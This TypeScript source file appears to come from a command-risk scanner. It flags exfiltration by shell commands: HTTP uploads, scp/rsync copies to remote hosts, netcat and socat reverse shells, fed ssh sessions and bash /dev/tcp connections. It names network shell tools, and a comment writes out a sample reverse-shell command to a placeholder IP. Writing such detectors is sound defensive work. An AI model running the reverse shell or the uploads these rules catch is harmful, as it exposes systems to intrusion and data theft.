import { hasFlag, parseArgs } from "../args.ts";
import { NETWORK_DEVICE } from "../paths.ts";
import { classifyUrl, isLoopbackHost } from "../url-risk.ts";
import { readHttpRequest } from "./http-clients.ts";
import type { InvocationRule } from "./rule.ts";

/** Sending data off the machine: uploads, copies to remote hosts, raw sockets, reverse shells. */

const SCP_VALUES = ["-P", "-i", "-o", "-F", "-c", "-l", "-S", "-J", "-D", "-X"];
const RSYNC_VALUES =
  "-e --rsh --exclude --include --filter -f --port --password-file --log-file --backup-dir --chmod --chown -B --bwlimit --partial-dir -T --temp-dir --compare-dest --copy-dest --link-dest --files-from --exclude-from --include-from --timeout --contimeout --max-size --min-size --suffix".split(" ");
const NC_VALUES = "-p -s -w -i -q -X -x -e -c -I -O -T -V -W -M -P --exec --sh-exec --lua-exec --source-port --source --wait --proxy --proxy-type".split(" ");
const SSH_VALUES = "-p -i -l -o -F -L -R -D -J -W -b -c -E -e -m -O -Q -S -w -B".split(" ");
const NETCATS = new Set(["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"]);
const FILE_TRANSFER = new Set(["sftp", "ftp", "lftp", "tftp", "telnet"]);
const REMOTE_SPEC = /^(?:[\w.+-]+@)?(\[[^\]]+\]|[A-Za-z0-9][\w.-]*):(?!\/\/)/;

/** The host of `user@host:path`, `host::module` or `scp://host/…`, or null for a local path. */
function remoteHost(spec: string): string | null {
  if (/^(scp|sftp|rsync|ssh):\/\//i.test(spec)) return classifyUrl(spec.replace(/^\w+:/, "http:")).host || null;
  if (spec.startsWith("/") || spec.startsWith(".") || spec.startsWith("~")) return null;
  return REMOTE_SPEC.exec(spec)?.[1]?.replace(/^\[|\]$/g, "") ?? null;
}

/** The host part of `user@host` or `ssh://user@host:port`. */
function loginHost(text: string): string {
  return text.replace(/^\w+:\/\//, "").replace(/^[^@]*@/, "").replace(/:\d+$/, "");
}

const httpUpload: InvocationRule = (inv, _ctx, report) => {
  const request = readHttpRequest(inv);
  if (!request || !request.sendsData) return;
  const remote = request.urls.filter((url) => classifyUrl(url).category !== "loopback");
  if (request.urls.length > 0 && remote.length === 0) return;
  const where = remote[0] ? classifyUrl(remote[0]).host || remote[0] : "a remote host";
  for (const file of request.uploads) {
    report("high", file === "-" ? `uploads piped data to ${where} (${inv.name})` : `uploads the file ${file} to ${where} (${inv.name})`);
  }
  if (request.uploads.length === 0) report("medium", `sends data to ${where} (${inv.name})`);
};

const copyToRemote: InvocationRule = (inv, _ctx, report) => {
  if (inv.name !== "scp" && inv.name !== "rsync") return;
  const specs = parseArgs(inv.args, inv.name === "scp" ? SCP_VALUES : RSYNC_VALUES).positionals.map((w) => w.text);
  const destination = specs.length > 1 ? remoteHost(specs.at(-1)!) : null;
  if (destination && !isLoopbackHost(destination)) {
    report("high", `copies files to the remote host ${destination} (${inv.name})`);
    return;
  }
  const source = specs.slice(0, -1).map(remoteHost).find((host) => host && !isLoopbackHost(host));
  if (source) report("medium", `copies files from the remote host ${source} (${inv.name})`);
};

const rawSocket: InvocationRule = (inv, _ctx, report) => {
  if (NETCATS.has(inv.name)) {
    const parsed = parseArgs(inv.args, NC_VALUES);
    if (hasFlag(parsed, "-e", "-c", "--exec", "--sh-exec", "--lua-exec")) {
      report("high", `connects a program to the network with ${inv.name} (a reverse shell)`);
      return;
    }
    const host = parsed.positionals.map((w) => w.text).find((t) => !/^\d+(-\d+)?$/.test(t));
    if (host && !isLoopbackHost(host)) report("high", `opens a raw network connection to ${host} (${inv.name})`);
    else if (!host && hasFlag(parsed, "-l", "--listen")) report("medium", `opens a listening network port (${inv.name} -l)`);
    return;
  }
  if (inv.name === "socat") {
    for (const arg of inv.args.map((a) => a.text)) {
      if (/^(exec|system):/i.test(arg)) report("high", "connects a program to the network with socat (a reverse shell)");
      const host = /^(?:tcp[46]?|udp[46]?|openssl|ssl|sctp)(?:-connect)?:([^:,]+)/i.exec(arg)?.[1];
      if (host && !isLoopbackHost(host)) report("high", `opens a raw network connection to ${host} (socat)`);
      if (/^(tcp|udp)[46]?-listen:/i.test(arg)) report("medium", "opens a listening network port (socat)");
    }
    return;
  }
  if (FILE_TRANSFER.has(inv.name)) {
    const host = parseArgs(inv.args, ["-P", "-p", "-o", "-i", "-u"]).positionals[0]?.text;
    if (host && !isLoopbackHost(loginHost(host))) report("medium", `opens a ${inv.name} session with ${loginHost(host)}`);
  }
};

const remoteShell: InvocationRule = (inv, _ctx, report) => {
  if (inv.name !== "ssh" && inv.name !== "mosh") return;
  const target = parseArgs(inv.args, SSH_VALUES).positionals[0]?.text;
  if (!target) return;
  const host = loginHost(target);
  if (isLoopbackHost(host)) return;
  const fedInput = inv.upstream.length > 0 || inv.command.redirects.some((r) => r.op === "<" || r.op === "<<" || r.op === "<<-");
  if (fedInput) report("high", `sends data to ${host} over ${inv.name}`);
  else report("medium", `opens a remote shell on ${host} (${inv.name})`);
};

/** bash's `/dev/tcp/HOST/PORT`: `bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`. */
const devTcp: InvocationRule = (inv, _ctx, report) => {
  if (!inv.primary) return;
  const texts = [...inv.command.redirects.map((r) => r.target.text), ...inv.command.words.map((w) => w.text)];
  for (const text of texts) {
    const match = NETWORK_DEVICE.exec(text);
    if (match && !isLoopbackHost(match[2]!)) report("high", `opens a raw network connection to ${match[2]} through /dev/${match[1]} (a reverse-shell pattern)`);
  }
};

export const exfiltrationRules: InvocationRule[] = [httpUpload, copyToRemote, rawSocket, remoteShell, devTcp];
